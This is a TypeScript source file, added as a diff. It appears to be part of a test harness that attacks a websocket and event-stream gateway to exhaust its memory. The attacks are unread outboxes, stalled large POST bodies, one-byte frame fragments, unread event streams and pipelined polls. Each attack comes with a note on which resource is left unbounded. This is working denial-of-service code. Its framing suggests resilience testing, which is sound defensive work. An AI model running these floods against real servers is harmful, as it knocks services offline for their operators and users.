@@ -1,0 +1,160 @@
+// Attacks that want the gateway to keep things.
+import type { Socket } from 'node:net'
+import { type Attack, type Finding, sized, type Target } from '../attack.ts'
+import { rungwayPath } from '../dialect.ts'
+import {
+  many,
+  megabytes,
+  OPCODE,
+  pump,
+  rawSocket,
+  repeated,
+  requestText,
+  socketFrame,
+  tcp,
+  textFrame,
+  untilOver,
+} from '../tools.ts'
+
+/** As much as a session may hold, in messages of that size. */
+const OUTBOX_BYTES = 1024 * 1024
+
+/** Each socket sends messages that come back, and reads nothing. */
+async function fillOutboxes(target: Target, messageBytes: number): Promise<Finding> {
+  const { dialect, signal } = target
+  const count = sized(target, 200, 500)
+  const text = 'x'.repeat(messageBytes)
+  const each = Math.min(16_000, Math.floor(OUTBOX_BYTES / messageBytes))
+  const sockets = await many(count, target, async (n) => (await rawSocket(target, n))?.pause() ?? null)
+  let bytes = 0
+  const over = untilOver(target)
+  const fill = async (socket: Socket): Promise<void> => {
+    const atOnce = Math.min(each, 100)
+    for (let seq = 1; seq <= each && !signal.aborted && !socket.destroyed; seq += atOnce) {
+      const block = repeated(atOnce, (i) => textFrame(dialect.message(seq + i, text)))
+      bytes += block.length
+      if (!socket.write(block)) await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), over])
+    }
+  }
+  await Promise.all(sockets.map(fill))
+  await over
+  return { did: `${sockets.length} sockets, ${megabytes(bytes)} up` }
+}
+
+/** POSTs of almost the largest size that stop before their end. */
+async function openBodies(target: Target, count: number, sent: number): Promise<Finding> {
+  const body = 'x'.repeat(sent)
+  let cut = 0
+  const sockets = await many(count, target, async (n) => {
+    const socket = await tcp(target)
+    socket?.resume().on('close', () => {
+      cut += 1
+    })
+    socket?.write(
+      requestText('POST', rungwayPath('up', n), { 'content-type': 'text/plain', 'content-length': '700000' }) + body,
+    )
+    return socket
+  })
+  await untilOver(target)
+  return { did: `${sockets.length} bodies of ${megabytes(sent)}, ${cut} cut` }
+}
+
+/** One message in fragments of a byte. */
+async function fragments(target: Target): Promise<Finding> {
+  const first = socketFrame(OPCODE.text, Buffer.from('['), false)
+  const rest = repeated(1_000, () => socketFrame(OPCODE.continuation, Buffer.from(' '), false))
+  const sockets = await many(sized(target, 20, 100), target, (n) => rawSocket(target, n))
+  const sent = await Promise.all(
+    sockets.map((socket) => pump(socket.resume(), target, (round) => (round === 0 ? first : rest))),
+  )
+  return { did: `${sockets.length} sockets, ${megabytes(sent.reduce((sum, each) => sum + each, 0))} up` }
+}
+
+/** A bare event stream, which acknowledges nothing, and whose reader reads nothing, while its session is sent echoes. */
+async function bareStreams(target: Target): Promise<Finding> {
+  const text = 'x'.repeat(16_000)
+  const readers = await many(sized(target, 100, 500), target, async (n) => {
+    const reader = await tcp(target)
+    reader?.pause().write(requestText('GET', rungwayPath('sse', n).replace(/&link.*/, '')))
+    const speaker = await tcp(target)
+    if (reader === null || speaker === null) return null
+    speaker.resume()
+    const lines = Array.from({ length: 32 }, (_, i) => target.dialect.message(i + 1, text)).join('\n')
+    speaker.write(requestText('POST', rungwayPath('up', n), {}, lines))
+    return reader
+  })
+  await untilOver(target)
+  return { did: `${readers.length} readers, ${megabytes(readers.length * 32 * text.length)} for them` }
+}
+
+/** Polls on one connection, each of which is owed a whole outbox, and whose answers are not read. */
+async function pipelinedPolls(target: Target): Promise<Finding> {
+  const { dialect } = target
+  const text = 'x'.repeat(16_000)
+  let asked = 0
+  await many(sized(target, 8, 32), target, async (n) => {
+    const path = await dialect.open(target, n)
+    const socket = await tcp(target)
+    if (path === null || socket === null) return null
+    const separate = dialect.separator
+    for (const batch of [0, 1]) {
+      const lines = Array.from({ length: 30 }, (_, i) => dialect.message(batch * 30 + i + 1, text)).join(separate)
+      socket.write(requestText('POST', path.up, {}, lines))
+    }
+    const poll = (link: number): string =>
+      requestText('GET', dialect.name === 'rungway' ? rungwayPath('short-polling', n, link) : path.down)
+    socket.pause()
+    await pump(socket, target, (round) => {
+      asked += 50
+      return Buffer.from(Array.from({ length: 50 }, (_, i) => poll(2 + round * 50 + i)).join(''))
+    })
+    return null
+  })
+  return { did: `${asked} polls` }
+}
+
+export const MEMORY_ATTACKS: readonly Attack[] = [
+  {
+    name: 'outboxes filled and not read',
+    host: 'alone',
+    hasPeer: true,
+    isOpen: 'what all hold is bounded, the time that it takes to free it is not',
+    run: (target) => fillOutboxes(target, 16_000),
+  },
+  {
+    name: 'outboxes of tiny messages',
+    host: 'alone',
+    hasPeer: true,
+    isOpen: 'frames are not counted against time',
+    run: (target) => fillOutboxes(target, 1),
+  },
+  {
+    name: "strangers' bodies",
+    host: 'authenticated',
+    hasPeer: false,
+    isOpen: 'bodies in flight are not bounded in all',
+    run: (target) => openBodies(target, sized(target, 200, 1_000), 650_000),
+  },
+  {
+    name: 'bodies that stop',
+    host: 'alone',
+    hasPeer: false,
+    isOpen: 'bodies in flight are not bounded in all',
+    run: (target) => openBodies(target, sized(target, 200, 1_000), 650_000),
+  },
+  { name: 'fragments of one byte', host: 'alone', hasPeer: true, isOpen: 'fragments are not bounded', run: fragments },
+  {
+    name: 'event streams that are not read',
+    host: 'alone',
+    hasPeer: false,
+    isOpen: 'a reader that does not read is kept for long',
+    run: bareStreams,
+  },
+  {
+    name: 'pipelined polls',
+    host: 'alone',
+    hasPeer: true,
+    isOpen: 'requests that wait on one connection are not bounded',
+    run: pipelinedPolls,
+  },
+]
